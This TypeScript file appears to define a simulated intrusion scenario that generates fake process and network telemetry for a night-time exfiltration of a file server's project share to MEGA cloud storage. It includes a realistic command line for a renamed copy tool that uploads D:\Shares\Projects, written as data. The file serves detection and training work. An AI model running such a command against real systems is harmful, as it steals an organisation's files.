import { minute, second } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { clock, type Intrusion } from './intrusion.ts';

const lanes = [
  'gfs204n103.userstorage.mega.co.nz',
  'gfs208n117.userstorage.mega.co.nz',
  'gfs262n309.userstorage.mega.co.nz',
  'gfs270n104.userstorage.mega.co.nz',
];

/** By night a renamed copy tool sends the file server's projects to MEGA: about 6 GB in three hours, four at a time. */
export const megaByCopyTool: Intrusion = {
  name: 'mega-copy-tool',
  technique: 'T1567.002',
  device: 'lf-fs01',
  dayNumber: 2,
  service: 'mega.co.nz',
  tell: (desk, midnight, random, incident) => {
    const start = clock(midnight, 1, 7, 12);
    const shell = desk.launch(programs.cmd, {
      at: start - 40 * second,
      commandLine: 'cmd.exe /c C:\\ProgramData\\WinSvc\\r.cmd',
    });
    const tool = desk.launch(programs.copyTool, {
      at: start,
      parent: shell,
      elevated: true,
      commandLine:
        'svchostw.exe --config C:\\ProgramData\\WinSvc\\s.conf copy D:\\Shares\\Projects lf:p --max-age 18M --transfers 4 --multi-thread-streams 4 -q',
    });
    for (let call = 0; call < 6; call++) {
      desk.connect(tool, 'g.api.mega.co.nz', {
        at: start + 2 * second + call * 29 * minute,
        lasting: random.int(20, 70) * second,
        sent: random.size(9_000, 60_000),
        received: random.size(12_000, 240_000),
        incident,
      });
    }
    for (const [lane, host] of lanes.entries()) {
      let at = start + (9 + lane * 2) * second;
      while (at < start + 172 * minute) {
        const lasting = random.int(7, 13) * minute;
        const bytes = (lasting / second) * random.int(128_000, 152_000);
        desk.connect(tool, host, { at, lasting, sent: bytes, received: Math.round(bytes / 4_200), incident });
        at += lasting + random.int(300, 4_000) * 1_000;
      }
    }
  },
};
